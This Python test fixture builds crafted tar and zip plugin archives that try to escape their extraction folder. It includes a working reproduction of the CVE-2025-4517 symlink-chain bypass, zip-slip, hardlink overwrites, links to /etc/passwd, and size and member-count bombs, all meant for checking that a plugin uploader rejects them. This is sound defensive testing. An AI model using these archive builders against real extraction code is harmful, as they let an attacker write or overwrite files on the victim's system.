"""Crafted release archives, built byte by byte: each tries to write outside its folder or break extraction.

``ATTACKS`` maps a name to a builder; a builder gets a :class:`Target` (where extraction will
happen and the folder it tries to reach) and returns the archive's bytes. Every archive also
holds a valid little plugin, so only the crafted members can be the reason it is refused.
"""

from __future__ import annotations

import gzip
import io
import os
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

#: The content every escaping member carries; no file outside may ever hold it or be named for it.
PAYLOAD = b"pwned by a crafted archive\n"
VICTIM_TEXT = "original\n"
STEPS = "abcdefghijklmnop"


@dataclass(frozen=True)
class Target:
    """``code``: the plugin's code; ``dest``: a path as long as the folder extraction writes into
    (its parent is where it will be); ``outside``: a folder holding ``victim.txt``, never to change."""

    code: str
    dest: Path
    outside: Path

    @property
    def victim(self) -> Path:
        return self.outside / "victim.txt"


def config(code: str) -> bytes:
    return (
        f"code: {code}\nname: Evil\nversion: 1.0.0\ncategory: neural_net\n"
        "actions:\n  train:\n    entrypoint: plugin.train.Train\n    method: task\n"
    ).encode()


TRAIN = b"from synapse_sdk.plugins.categories.neural_net import TrainAction\n\n\nclass Train(TrainAction):\n    def start(self):\n        return {}\n"  # noqa: E501


def info(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, link: str = "", mode: int = 0o644,
         pax: dict[str, str] | None = None) -> tarfile.TarInfo:  # fmt: skip
    member = tarfile.TarInfo(name)
    member.type, member.size, member.linkname, member.mode = kind, size, link, mode
    if kind == tarfile.DIRTYPE:
        member.mode = 0o755
    if pax:
        member.pax_headers = pax
    return member


def tar_bytes(members: list[tuple[tarfile.TarInfo, bytes]], fmt: int = tarfile.PAX_FORMAT,
              compress: bool = True) -> bytes:  # fmt: skip
    """A tar stream written header by header: sizes and types are exactly what the members say."""
    raw = io.BytesIO()
    for member, data in members:
        raw.write(member.tobuf(fmt, "utf-8", "surrogateescape"))
        if data:
            raw.write(data + b"\0" * (-len(data) % 512))
    raw.write(b"\0" * 1024)
    return gzip.compress(raw.getvalue(), mtime=0) if compress else raw.getvalue()


def base(code: str) -> list[tuple[tarfile.TarInfo, bytes]]:
    """The valid plugin every crafted archive carries."""
    files = {"config.yaml": config(code), "plugin/__init__.py": b"", "plugin/train.py": TRAIN}
    return [(info(name, size=len(data)), data) for name, data in files.items()]


def with_base(t: Target, *members: tuple[tarfile.TarInfo, bytes], fmt: int = tarfile.PAX_FORMAT) -> bytes:
    return tar_bytes([*base(t.code), *members], fmt)


def payload(name: str) -> tuple[tarfile.TarInfo, bytes]:
    return info(name, size=len(PAYLOAD)), PAYLOAD


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tuple[tarfile.TarInfo, bytes]:
    return info(name, kind, link=target), b""


def cve_2025_4517(t: Target, hardlink: bool = False) -> bytes:
    """The published technique: symlinks that expand past PATH_MAX hide where ``escape`` points.

    ``os.path.realpath`` gives up on the over-long ``a/b/.../p/lll...`` link and returns it
    unexpanded, so an unpatched ``tarfile`` filter believes ``escape`` stays inside; the
    kernel follows it to ``outside``. Then ``escape/pwned.txt`` is written there (or, with
    ``hardlink``, ``victim.txt`` is overwritten through a hard link to it).
    """
    path_max = os.pathconf("/", "PC_PATH_MAX")
    comp = "d" * ((path_max - len(str(t.dest)) - 1) // (len(STEPS) + 1))
    members: list[tuple[tarfile.TarInfo, bytes]] = []
    path = ""
    for step in STEPS:
        members.append((info(os.path.join(path, comp), tarfile.DIRTYPE), b""))
        members.append(link(os.path.join(path, step), comp))
        path = os.path.join(path, comp)
    linkpath = os.path.join("/".join(STEPS), "l" * 254)
    members.append(link(linkpath, "../" * len(STEPS)))  # back to the top, never expanded by realpath
    climb = os.path.relpath(t.outside, t.dest.parent)
    members.append(link("escape", f"{linkpath}/../{climb}"))
    if hardlink:
        members.append(link("flaglink", "escape/victim.txt", tarfile.LNKTYPE))
        members.append(payload("flaglink"))
    else:
        members.append(payload("escape/pwned.txt"))
    return with_base(t, *members)


def zip_bytes(t: Target, name: str, data: bytes = PAYLOAD, mode: int = 0o100644) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as zf:
        zf.writestr("config.yaml", config(t.code))
        zf.writestr("plugin/__init__.py", b"")
        zf.writestr("plugin/train.py", TRAIN)
        member = zipfile.ZipInfo(name)
        member.external_attr = mode << 16
        zf.writestr(member, data)
    return raw.getvalue()


def zip_unknown_method(t: Target) -> bytes:
    """A zip whose last member claims compression method 99 (AES), which ``zipfile`` cannot read."""
    data = bytearray(zip_bytes(t, "plugin/secret.py"))
    local, central = data.rfind(b"PK\x03\x04"), data.rfind(b"PK\x01\x02")
    data[local + 8 : local + 10] = data[central + 10 : central + 12] = (99).to_bytes(2, "little")
    return bytes(data)


def many_members(t: Target) -> bytes:
    return with_base(t, *((info(f"plugin/data/f{i}.txt"), b"") for i in range(10_001)))


def rel(t: Target, *more: str) -> str:
    """A relative name from the extraction folder to ``outside`` (then ``more``)."""
    return os.path.join(os.path.relpath(t.outside, t.dest), *more)


ATTACKS: dict[str, Callable[[Target], bytes]] = {
    "cve-2025-4517-symlink-chain": cve_2025_4517,
    "cve-2025-4517-hardlink-overwrite": lambda t: cve_2025_4517(t, hardlink=True),
    "symlink-dir-absolute-then-write": lambda t: with_base(
        t, link("plugin/out", str(t.outside)), payload("plugin/out/pwned.txt")
    ),
    "symlink-dir-relative-then-write": lambda t: with_base(
        t, link("plugin/out", os.path.join("..", rel(t))), payload("plugin/out/pwned.txt")
    ),
    "symlink-to-etc": lambda t: with_base(t, link("plugin/etc", "/etc")),
    "symlink-to-etc-passwd": lambda t: with_base(t, link("plugin/passwd", "/etc/passwd")),
    "symlink-file-then-overwrite": lambda t: with_base(
        t, link("plugin/evil.py", str(t.victim)), payload("plugin/evil.py")
    ),
    "symlink-inside-harmless": lambda t: with_base(t, link("plugin/alias.py", "train.py")),
    "hardlink-absolute-then-overwrite": lambda t: with_base(
        t, link("plugin/hard", str(t.victim), tarfile.LNKTYPE), payload("plugin/hard")
    ),
    "hardlink-relative-then-overwrite": lambda t: with_base(
        t, link("plugin/hard", rel(t, "victim.txt"), tarfile.LNKTYPE), payload("plugin/hard")
    ),
    "hardlink-inside-harmless": lambda t: with_base(
        t, link("plugin/alias.py", "plugin/train.py", tarfile.LNKTYPE)
    ),
    "absolute-name": lambda t: with_base(t, payload(str(t.outside / "pwned.txt"))),
    "dotdot-name": lambda t: with_base(t, payload(rel(t, "pwned.txt"))),
    "nested-dotdot-name": lambda t: with_base(t, payload(os.path.join("plugin", "..", rel(t, "pwned.txt")))),
    "dotdot-folder": lambda t: with_base(
        t, (info(os.path.join("plugin", "..", rel(t, "sub")), tarfile.DIRTYPE), b"")
    ),
    "pax-path-dotdot": lambda t: with_base(
        t, (info("plugin/ok.py", size=len(PAYLOAD), pax={"path": rel(t, "pwned.txt")}), PAYLOAD)
    ),
    "gnu-longname-dotdot": lambda t: with_base(
        t, payload(f"plugin/{'x' * 120}/../../{rel(t, 'pwned.txt')}"), fmt=tarfile.GNU_FORMAT
    ),
    "backslash-dotdot": lambda t: with_base(t, payload(rel(t, "pwned.txt").replace("/", "\\"))),
    "windows-drive": lambda t: with_base(t, payload("C:/pwned.txt")),
    "character-device": lambda t: with_base(t, (info("plugin/null", tarfile.CHRTYPE), b"")),
    "block-device": lambda t: with_base(t, (info("plugin/sda", tarfile.BLKTYPE), b"")),
    "fifo": lambda t: with_base(t, (info("plugin/pipe", tarfile.FIFOTYPE), b"")),
    "contiguous-file": lambda t: with_base(
        t, (info("plugin/c.py", tarfile.CONTTYPE, len(PAYLOAD)), PAYLOAD)
    ),
    "sparse-file": lambda t: with_base(
        t, (info("plugin/s.py", tarfile.GNUTYPE_SPARSE, len(PAYLOAD)), PAYLOAD), fmt=tarfile.GNU_FORMAT
    ),
    "duplicate-name": lambda t: with_base(t, payload("plugin/train.py")),
    "duplicate-after-normalising": lambda t: with_base(t, payload("./plugin//train.py")),
    "file-replacing-folder": lambda t: with_base(t, payload("plugin")),
    "folder-then-file-of-same-name": lambda t: with_base(
        t, (info("plugin/sub", tarfile.DIRTYPE), b""), payload("plugin/sub")
    ),
    "path-through-a-file": lambda t: with_base(t, payload("config.yaml/pwned.txt")),
    "over-long-component": lambda t: with_base(t, payload("plugin/" + "n" * 300)),
    "over-long-path": lambda t: with_base(t, payload("/".join(["p" * 200] * 8))),
    "control-character-name": lambda t: with_base(t, payload("plugin/evil\nError: all good.py")),
    "reserved-manifest": lambda t: with_base(t, payload(".synapse/manifest.json")),
    "shipped-bytecode": lambda t: with_base(t, payload("plugin/__pycache__/train.cpython-311.pyc")),
    "huge-member-count": many_members,
    "huge-count-of-top-folder-entries": lambda t: with_base(
        t, *((info("./", tarfile.DIRTYPE), b"") for _ in range(10_001))
    ),
    "size-bomb-header": lambda t: with_base(t, (info("plugin/big.bin", size=5 << 30), b"")),
    "truncated-member-data": lambda t: tar_bytes(
        [*base(t.code), (info("plugin/cut.py", size=4096), b"x" * 100)]
    ),
    "truncated-gzip": lambda t: with_base(t)[:60],
    "not-an-archive": lambda t: b"#!/bin/sh\necho pwned > /tmp/pwned\n" * 10,
    "uncompressed-tar-with-symlink": lambda t: tar_bytes(
        [*base(t.code), link("plugin/out", str(t.outside)), payload("plugin/out/pwned.txt")], compress=False
    ),
    "zip-slip-dotdot": lambda t: zip_bytes(t, rel(t, "pwned.txt")),
    "zip-slip-absolute": lambda t: zip_bytes(t, str(t.outside / "pwned.txt")),
    "zip-symlink": lambda t: zip_bytes(t, "plugin/out", str(t.outside).encode(), mode=0o120777),
    "zip-fifo": lambda t: zip_bytes(t, "plugin/pipe", b"", mode=0o010644),
    "zip-unknown-compression": zip_unknown_method,
}  # fmt: skip


def prepare_outside(folder: Path) -> Path:
    """The folder attacks aim at, holding ``victim.txt``."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "victim.txt").write_text(VICTIM_TEXT)
    return folder


#: Files that may hold the payload's bytes legitimately: the stored archives, the databases, logs.
SKIPPED = (".gz", ".zip", ".db", ".db-wal", ".db-shm", ".log")


def escapes(t: Target, *roots: Path) -> list[str]:
    """What an attack left: the victim changed, anything beside it, payload files or links under ``roots``."""
    found = []
    if t.victim.read_text() != VICTIM_TEXT:
        found.append(f"{t.victim} was overwritten")
    found += [f"{p} appeared outside" for p in t.outside.iterdir() if p.name != "victim.txt"]
    for root in roots:
        for folder, dirs, files in os.walk(root):
            for name in dirs + files:
                path = Path(folder, name)
                if path.is_symlink():
                    found.append(f"{path} is a link")
                elif path.is_file() and path.suffix not in SKIPPED and PAYLOAD in path.read_bytes():
                    found.append(f"{path} holds the payload")
    return found
